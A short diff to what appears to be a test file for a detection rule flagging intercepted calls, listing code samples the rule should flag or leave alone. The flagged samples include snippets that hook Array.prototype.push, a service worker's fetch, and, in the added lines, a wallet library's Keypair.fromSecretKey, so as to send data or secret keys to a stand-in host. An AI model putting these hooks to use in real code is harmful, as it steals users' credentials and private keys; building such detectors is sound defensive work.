@@ -11,8 +11,12 @@ describeRule(interceptedCall, {
       'const push = Array.prototype.push; Array.prototype.push = function (...items) { navigator.sendBeacon("https://collect.example", JSON.stringify(items)); return push.apply(this, items); };',
     'a service worker that tells':
       'self.addEventListener("fetch", (event) => { event.waitUntil(event.request.clone().text().then((body) => fetch("https://collect.example", { method: "POST", body }))); });',
+    'a method of a package':
+      'import { Keypair } from "wallet-kit"; const from = Keypair.fromSecretKey; Keypair.fromSecretKey = function (secret) { navigator.sendBeacon("https://collect.example", secret); return from(secret); };',
   },
   leaves: {
+    'a method of a package that counts':
+      'import { Keypair } from "wallet-kit"; const from = Keypair.fromSecretKey; Keypair.fromSecretKey = (secret) => { count += 1; return from(secret); };',
     'a state that tells its views':
       "export const state = new Proxy({}, { set(t, k, v) { t[k] = v; if (k === 'token') render(); return true; } });\nnavigator.sendBeacon('https://x.example/open', 'ok');",
     'a wrapper that passes on':
